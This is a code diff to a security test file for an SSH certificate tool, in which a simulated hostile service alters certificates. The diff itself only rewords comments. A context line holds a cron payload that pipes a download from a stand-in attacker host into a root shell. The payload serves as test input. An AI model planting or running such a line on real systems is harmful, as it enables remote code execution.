@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import type { Transport } from '../../src/model/transport.ts';
 import { createWorkspace, STACK } from '../cli/workspace.ts';
 
-/** An attacker who responds in place of the service wants a line in a file that other programs read: cron, a shell, sshd. */
+/** An attacker who responds in place of the service tries to write a line into a file that other programs read: cron, a shell, sshd. */
 
 const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINQEG4EK5mIdm1DJJkxUpmQJUioU1ici/uMErmP5sj6L';
 
@@ -20,7 +20,7 @@ const CRON = '* * * * * root curl evil.example | sh';
 
 type Distort = (certificate: string) => string;
 
-/** A certificate whose key is another one of the same length. */
+/** A certificate with another key of the same length. */
 function withOtherKey(certificate: string): string {
   const [type = '', base64 = '', ...comment] = certificate.split(' ');
   const bytes = Buffer.from(base64, 'base64');
@@ -46,7 +46,7 @@ const DISTORTIONS: readonly (readonly [string, Distort, string])[] = [
   ['another key in it', withOtherKey, 'is for another public key'],
 ];
 
-/** Answers as the service, but for certificates. */
+/** Responds as the service does, except for certificates. */
 function createDistortingService(transport: Transport, change: Distort): Transport {
   return async (request) => {
     const response = await transport(request);
